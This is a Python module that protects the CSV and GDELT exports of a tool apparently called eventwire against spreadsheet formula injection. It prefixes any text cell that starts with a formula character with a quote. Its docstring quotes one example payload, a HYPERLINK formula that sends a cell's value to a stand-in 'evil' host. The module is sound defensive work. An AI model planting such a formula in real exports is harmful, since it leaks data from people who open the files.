"""One guard against spreadsheet formula injection ("CSV injection") for every CSV-like writer.

A title such as ``=HYPERLINK("http://evil/?"&A1,"click")`` in an exported cell is run as a formula
when the file is opened in Excel, LibreOffice or Google Sheets. Following OWASP's advice (CSV
Injection, https://owasp.org/www-community/attacks/CSV_Injection), a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a single quote ``'``, which
spreadsheets read as "this is text" and do not show. A cell that is a plain number (``-4.0``,
``+3``, ``1e-5``) is left alone: spreadsheets read it as a number, not a formula.

Writers that use it (the only CSV-like outputs of eventwire):

* ``eventwire export --format csv`` (every table): :func:`guard_batch` on each Arrow batch;
* ``eventwire export --format gdelt`` (GDELT 2.0 events and mentions): tab-separated text named like
  GDELT's ``.CSV`` files, which spreadsheets open too, so its text fields (actor names, places, URLs)
  are guarded the same way; every other GDELT field is a number or a code, left unchanged;
* the web app's CSV downloads (``/api/events.csv``, ``/api/aggregated-events.csv``): :func:`safe_cell`.

JSON outputs (``jsonl``, ``plover``) and Parquet are not read as formulas and are written unchanged.
The quote is visible to a program that reads the file as data: it marks a value that began with a
formula character (rare in news metadata; never a number).
"""
from __future__ import annotations

import re
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_STARTS = r"^[=+\-@\t\r]"
#: A plain number (optionally signed, decimal, exponent): read as a number, never as a formula.
_NUMBER = r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$"
_NUMBER_RE = re.compile(_NUMBER)


def safe_cell(value: Any) -> Any:
    """``value`` with a ``'`` in front when it is a string a spreadsheet would run as a formula
    (see the module docstring); any other value is returned unchanged."""
    if isinstance(value, str) and value[:1] in FORMULA_START and not _NUMBER_RE.match(value):
        return "'" + value
    return value


def _guard_array(arr: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    risky = pc.and_kleene(pc.match_substring_regex(arr, _STARTS),
                          pc.invert(pc.match_substring_regex(arr, _NUMBER)))
    if not pc.any(risky).as_py():
        return arr
    quoted = pc.binary_join_element_wise(pa.scalar("'", arr.type), arr, pa.scalar("", arr.type))
    return pc.if_else(pc.fill_null(risky, False), quoted, arr)


def guard_batch(batch: pa.RecordBatch | pa.Table) -> pa.RecordBatch | pa.Table:
    """``batch`` with :func:`safe_cell` applied to every string column (vectorised with Arrow
    compute; other columns, and batches without a risky cell, are returned as they are)."""
    cols = []
    changed = False
    for col, field in zip(batch.columns, batch.schema):
        if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
            new = _guard_array(col)
            changed |= new is not col
            cols.append(new)
        else:
            cols.append(col)
    if not changed:
        return batch
    cls = pa.RecordBatch if isinstance(batch, pa.RecordBatch) else pa.Table
    return cls.from_arrays(cols, schema=batch.schema)
